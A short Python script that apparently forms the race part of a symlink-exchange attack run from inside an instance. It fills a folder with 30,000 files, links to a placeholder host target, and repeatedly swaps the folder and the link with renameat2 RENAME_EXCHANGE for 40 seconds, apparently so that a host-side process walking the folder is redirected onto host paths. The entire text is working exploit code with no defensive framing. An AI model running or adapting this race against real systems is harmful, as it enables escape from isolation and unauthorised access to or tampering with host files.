# In an instance: a folder with many files and a link to a folder of the host exchange their names now and then.
import ctypes, os, time

TARGET, FILES, SECONDS = "@TARGET@", 30000, 40
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("/var/tmp/race/folder")
os.chdir("/var/tmp/race")
os.symlink(TARGET, "link")
names = [f"folder/a{number}" for number in range(FILES)] + [f"folder/f{number}" for number in range(20)]
for name in names:
    os.close(os.open(name, os.O_CREAT | os.O_WRONLY, 0o644))
open("/var/tmp/flipping", "w").close()
end = time.time() + SECONDS
while time.time() < end:
    libc.renameat2(-100, b"folder", -100, b"link", 2)
    time.sleep(0.02)
